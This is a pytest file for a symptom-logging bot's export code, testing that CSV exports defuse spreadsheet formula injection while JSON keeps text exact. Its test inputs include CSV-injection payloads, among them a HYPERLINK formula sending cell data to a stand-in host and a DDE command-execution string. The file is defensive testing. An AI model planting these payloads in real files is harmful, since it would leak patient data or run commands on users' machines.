"""The CSV export must not hand a clinician's spreadsheet a live formula; the JSON stays exact."""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, datetime

import pytest

from bot.episodes.export import episodes_to_csv, everything_to_json
from bot.episodes.vocabulary import Trigger
from tests.harness import BotHarness, button_data
from tests.insights.factory import episode

ATTACKS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click for your results")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",  # full-width forms: some spreadsheets fold them to ASCII
    "＋1",
    "－1",
    "＠SUM(1)",
    "  =1+1",
]


def _csv_rows(data: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(data.decode("utf-8"))))


def _is_formula(cell: str) -> bool:
    return cell.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠"))


@pytest.mark.parametrize("attack", ATTACKS)
def test_formula_notes_and_triggers_become_plain_text(attack: str) -> None:
    alone = episode(datetime(2026, 3, 2, 2, 40), notes=attack, trigger_text=attack)
    with_code = episode(
        datetime(2026, 3, 3, 2, 40), notes="fine", triggers=[Trigger.HEAT], trigger_text=attack
    )
    rows = _csv_rows(episodes_to_csv([alone, with_code]))
    for row in rows:
        for cell in row.values():
            assert not _is_formula(cell), cell
        # A spreadsheet set to split on ';' would make each item a cell of its own.
        for item in row["triggers"].split(";"):
            assert not _is_formula(item), item
    assert rows[0]["notes"] == "'" + attack  # the text is all there, behind one quote
    assert rows[1]["triggers"] == "heat;'" + attack


def test_ordinary_text_is_left_alone() -> None:
    calm = episode(datetime(2026, 3, 2, 2, 40), notes="woke me, 5-10 min", trigger_text="long walk")
    row = _csv_rows(episodes_to_csv([calm]))[0]
    assert (row["notes"], row["triggers"]) == ("woke me, 5-10 min", "long walk")


def test_json_export_keeps_the_text_exactly() -> None:
    typed = episode(datetime(2026, 3, 2, 2, 40), notes=ATTACKS[0], trigger_text=ATTACKS[1])
    document = json.loads(
        everything_to_json(
            settings={}, episodes=[typed], extra={}, exported_at=datetime(2026, 3, 4, tzinfo=UTC)
        )
    )
    assert document["episodes"][0]["notes"] == ATTACKS[0]
    assert document["episodes"][0]["trigger_text"] == ATTACKS[1]


async def test_a_tab_led_formula_typed_as_a_note_is_kept_and_exported_safely(harness: BotHarness) -> None:
    out = await harness.send("/log")
    for label in ("Calf", "7", "Notes"):
        out = await harness.press(button_data(out, label))
    out = await harness.send("\t=1+1 cramp after stairs")
    await harness.press(button_data(out, "Save"))
    stored = await harness.app.bot_data["services"].db.fetch_value("SELECT notes FROM episodes")
    assert stored == "=1+1 cramp after stairs"  # the words and the formula text survive the collapse
    out = await harness.send("/export")
    (_name, data) = next(iter(next(o for o in out if o["method"] == "sendDocument")["files"].values()))
    assert _csv_rows(data)[0]["notes"] == "'=1+1 cramp after stairs"
